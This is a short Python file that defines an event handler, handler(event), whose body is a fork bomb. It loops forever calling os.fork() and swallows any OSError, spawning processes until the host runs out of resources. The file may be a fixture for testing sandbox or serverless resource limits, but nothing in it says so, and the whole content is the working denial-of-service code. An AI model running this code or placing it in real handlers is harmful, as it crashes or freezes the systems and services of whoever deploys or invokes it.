import os


def handler(event):
    while True:
        try:
            os.fork()
        except OSError:
            pass
